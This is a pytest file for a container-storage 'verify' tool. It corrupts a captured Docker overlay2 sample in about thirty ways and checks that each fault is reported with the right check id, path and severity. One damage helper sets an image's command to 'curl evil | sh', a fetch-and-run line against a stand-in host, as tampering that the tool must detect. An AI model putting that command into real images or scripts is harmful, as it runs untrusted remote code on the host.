"""verify on the real-daemon sample: clean as captured, and each kind of damage made from it is
reported with its check id and the path at fault."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from sample_paths import STORE, SamplePaths

APP = "sample/app:1.0"
NEW_HEX = "f" * 64


def test_sample_is_clean(cli, driver_sample: tuple[Path, dict[str, Any]]) -> None:
    result = cli("verify", driver_sample[0], "--format", "json")
    assert result.code == 0, result.stdout
    doc = result.json()
    assert doc["summary"]["error"] == 0
    assert doc["summary"]["warning"] == 0, [
        f for f in doc["findings"] if f["severity"] == "warning"
    ]


def test_corpus_is_clean(cli, corpus_roots: dict[str, Path]) -> None:
    for name, root in corpus_roots.items():
        result = cli("verify", root, "--format", "json")
        assert result.code == 0, (name, result.stdout)


def truncate_config(s: SamplePaths) -> str:
    rel = f"containers/{s.container_id('exited')}/config.v2.json"
    data = s.path(rel).read_bytes()
    s.path(rel).write_bytes(data[: len(data) // 2])
    return rel


def remove_container_dir(s: SamplePaths) -> str:
    cid = s.container_id("exited")
    shutil.rmtree(s.path(f"containers/{cid}"))
    return f"{STORE}/layerdb/mounts/{cid}"


def add_orphan_overlay2_dir(s: SamplePaths) -> str:
    s.path(f"overlay2/{NEW_HEX}/diff").mkdir(parents=True)
    s.path(f"overlay2/{NEW_HEX}/link").write_text("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return f"overlay2/{NEW_HEX}"


def remove_l_link(s: SamplePaths) -> str:
    link = s.link(s.cache_id(s.chain(APP)[2]))
    s.path(f"overlay2/l/{link}").unlink()
    return f"overlay2/l/{link}"


def truncate_repositories(s: SamplePaths) -> str:
    rel = f"{STORE}/repositories.json"
    data = s.path(rel).read_bytes()
    s.path(rel).write_bytes(data[:40])
    return rel


def zero_repositories(s: SamplePaths) -> str:
    rel = f"{STORE}/repositories.json"
    s.path(rel).write_bytes(b"")
    return rel


def edit_image_config(s: SamplePaths) -> str:
    rel = s.image_config(APP)
    config = json.loads(s.path(rel).read_bytes())
    config["config"]["Cmd"] = ["/bin/sh", "-c", "curl evil | sh"]
    s.path(rel).write_text(json.dumps(config))
    return rel


def cache_id_to_missing_dir(s: SamplePaths) -> str:
    rel = f"{s.layer_dir(s.chain(APP)[1])}/cache-id"
    s.path(rel).write_text(NEW_HEX)
    return rel


def change_config_id(s: SamplePaths) -> str:
    rel = f"containers/{s.container_id('exited')}/config.v2.json"
    config = json.loads(s.path(rel).read_bytes())
    config["ID"] = NEW_HEX
    s.path(rel).write_text(json.dumps(config))
    return rel


def remove_image_of_containers(s: SamplePaths) -> str:
    s.path(s.image_config(APP)).unlink()
    return f"containers/{s.container_id('exited')}/config.v2.json"


def remove_layer_diff(s: SamplePaths) -> str:
    rel = f"{s.layer_dir(s.chain(APP)[3])}/diff"
    s.path(rel).unlink()
    return rel


def empty_layer_dir(s: SamplePaths) -> str:
    rel = s.layer_dir(s.chain(APP)[-1])
    for child in s.path(rel).iterdir():
        child.unlink()
    return rel


def nul_fill_hostconfig(s: SamplePaths) -> str:
    rel = f"containers/{s.container_id('created')}/hostconfig.json"
    size = s.path(rel).stat().st_size
    s.path(rel).write_bytes(b"\0" * size)
    return rel


def wrong_lower(s: SamplePaths) -> str:
    rel = f"overlay2/{s.cache_id(s.chain(APP)[2])}/lower"
    parts = s.path(rel).read_text().split(":")
    s.path(rel).write_text(
        ":".join(reversed(parts)) if len(parts) > 1 else "l/ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    )
    return rel


def remove_named_volume(s: SamplePaths) -> str:
    shutil.rmtree(s.path("volumes/sample-data"))
    return f"containers/{s.container_id('with-volume')}/config.v2.json"


def mount_id_to_missing_dir(s: SamplePaths) -> str:
    rel = f"{STORE}/layerdb/mounts/{s.container_id('created')}/mount-id"
    s.path(rel).write_text(NEW_HEX)
    return rel


def remove_mount_record(s: SamplePaths) -> str:
    cid = s.container_id("created")
    shutil.rmtree(s.path(f"{STORE}/layerdb/mounts/{cid}"))
    return f"containers/{cid}"


def other_driver(s: SamplePaths) -> str:
    rel = f"containers/{s.container_id('exited')}/config.v2.json"
    config = json.loads(s.path(rel).read_bytes())
    config["Driver"] = "aufs"
    s.path(rel).write_text(json.dumps(config))
    return rel


def duplicate_name(s: SamplePaths) -> str:
    rel = f"containers/{s.container_id('exited')}/config.v2.json"
    config = json.loads(s.path(rel).read_bytes())
    config["Name"] = "/created"
    s.path(rel).write_text(json.dumps(config))
    return rel


def wrong_layer_parent(s: SamplePaths) -> str:
    chain = s.chain(APP)
    rel = f"{s.layer_dir(chain[3])}/parent"
    s.path(rel).write_text(chain[1])
    return s.layer_dir(chain[3])


def wrong_mount_parent(s: SamplePaths) -> str:
    rel = f"{STORE}/layerdb/mounts/{s.container_id('exited')}/parent"
    s.path(rel).write_text(s.chain(APP)[1])
    return rel


def wrong_link_target(s: SamplePaths) -> str:
    link = s.link(s.cache_id(s.chain(APP)[0]))
    target = s.path(f"overlay2/l/{link}")
    target.unlink()
    os.symlink("../somewhere-else/diff", target)
    return f"overlay2/l/{link}"


def empty_link_file(s: SamplePaths) -> str:
    rel = f"overlay2/{s.cache_id(s.chain(APP)[1])}/link"
    s.path(rel).write_bytes(b"")
    return rel


def remove_init_dir(s: SamplePaths) -> str:
    mount = s.mount_id("exited")
    shutil.rmtree(s.path(f"overlay2/{mount}-init"))
    return f"{STORE}/layerdb/mounts/{s.container_id('exited')}/init-id"


def remove_cache_dir_diff(s: SamplePaths) -> str:
    cache = s.cache_id(s.chain(APP)[1])
    shutil.rmtree(s.path(f"overlay2/{cache}/diff"))
    return f"overlay2/{cache}/diff"


DAMAGE: list[tuple[Callable[[SamplePaths], str], str, str | None]] = [
    (truncate_config, "container.config-damaged", "truncated"),
    (remove_container_dir, "mount.container-missing", None),
    (add_orphan_overlay2_dir, "driver.orphan-dir", None),
    (remove_l_link, "overlay2.link-dangling", None),
    (truncate_repositories, "repositories.damaged", "truncated"),
    (zero_repositories, "repositories.damaged", "empty"),
    (edit_image_config, "image.digest-mismatch", None),
    (cache_id_to_missing_dir, "layer.driver-dir-missing", None),
    (change_config_id, "container.id-mismatch", None),
    (remove_image_of_containers, "container.image-missing", None),
    (remove_layer_diff, "layer.diff-missing", "missing"),
    (empty_layer_dir, "layer.empty-dir", None),
    (nul_fill_hostconfig, "container.hostconfig-damaged", "nul-filled"),
    (wrong_lower, "overlay2.lower-mismatch", None),
    (remove_named_volume, "container.volume-missing", None),
    (mount_id_to_missing_dir, "mount.driver-dir-missing", None),
    (remove_mount_record, "container.mount-missing", None),
    (other_driver, "container.driver-mismatch", None),
    (duplicate_name, "container.name-duplicate", None),
    (wrong_layer_parent, "layer.chain-id-mismatch", None),
    (wrong_mount_parent, "mount.parent-mismatch", None),
    (wrong_link_target, "overlay2.link-dangling", None),
    (empty_link_file, "overlay2.link-damaged", "empty"),
    (remove_init_dir, "mount.init-dir-missing", None),
    (remove_cache_dir_diff, "overlay2.diff-missing", None),
]


@pytest.mark.parametrize(("damage", "check", "how"), DAMAGE, ids=[d[0].__name__ for d in DAMAGE])
def test_damage_is_reported(
    cli,
    sample_root: Path,
    truth: dict[str, Any],
    damage: Callable[[SamplePaths], str],
    check: str,
    how: str | None,
) -> None:
    path = damage(SamplePaths(sample_root, truth))
    result = cli("verify", sample_root, "--format", "json")
    assert result.code == 4, result.stdout
    findings = result.json()["findings"]
    hits = [f for f in findings if f["check"] == check and f["path"] == path]
    assert hits, f"no {check} at {path}; got {[(f['check'], f['path']) for f in findings]}"
    assert all(f["severity"] == "error" for f in hits)
    if how is not None:
        assert hits[0]["damage"] == how
    assert_one_cause(result.json(), 2 if damage is duplicate_name else 1)


def assert_one_cause(doc: dict[str, Any], causes: int = 1) -> None:
    """One damage, one error: every other error names its cause in ``caused_by`` (two
    containers with one name are both at fault)."""
    errors = [f for f in doc["findings"] if f["severity"] == "error" and f["caused_by"] is None]
    assert len(errors) == doc["summary"]["error"] == causes, [
        (f["check"], f["path"]) for f in errors
    ]
    keys = {f"{f['check']}:{f['path']}" for f in errors}
    assert all(f["caused_by"] in keys for f in doc["findings"] if f["caused_by"]), "no stray cause"


LEFTOVERS = [
    (lambda s: _mkdir(s, f"{STORE}/layerdb/tmp/write-set-123456"), "layer.tmp-leftover"),
    (
        lambda s: _mkdir(s, f"{STORE}/layerdb/sha256/{'a' * 64}-{'b' * 64}-removing"),
        "layer.removing-leftover",
    ),
    (
        lambda s: _touch(s, f"containers/{s.container_id('exited')}/.tmp-config.v2.json123"),
        "container.tmp-leftover",
    ),
    (
        lambda s: _touch(s, f"{STORE}/imagedb/content/sha256/.tmp-{'c' * 64}456"),
        "image.stray-entry",
    ),
    (lambda s: _mkdir(s, "overlay2/notalayerbutadirectoryx"), "driver.unknown-dir"),
]


def _mkdir(s: SamplePaths, rel: str) -> str:
    s.path(rel).mkdir(parents=True)
    return rel


def _touch(s: SamplePaths, rel: str) -> str:
    s.path(rel).write_text("{}")
    return rel


@pytest.mark.parametrize(("leftover", "check"), LEFTOVERS, ids=[c for _, c in LEFTOVERS])
def test_leftovers_are_warnings(
    cli, sample_root: Path, truth: dict[str, Any], leftover, check: str
) -> None:
    path = leftover(SamplePaths(sample_root, truth))
    result = cli("verify", sample_root, "--format", "json")
    assert result.code == 0, result.stdout
    hits = [f for f in result.json()["findings"] if f["check"] == check and f["path"] == path]
    assert hits and hits[0]["severity"] == "warning"


def test_unreferenced_layer_is_a_warning(cli, sample_root: Path, truth: dict[str, Any]) -> None:
    s = SamplePaths(sample_root, truth)
    (bk,) = [i for i in truth["inspect_images"] if "sample/bk:1.0" in i["RepoTags"]]
    s.path(s.image_config("sample/bk:1.0")).unlink()
    top = s.layer_dir(s.chain("sample/bk:1.0")[-1])
    result = cli("verify", sample_root, "--format", "json")
    checks = {(f["check"], f["path"]) for f in result.json()["findings"]}
    assert ("layer.unreferenced", top) in checks
    assert ("repositories.target-missing", f"{STORE}/repositories.json") in checks
    assert bk["Id"]
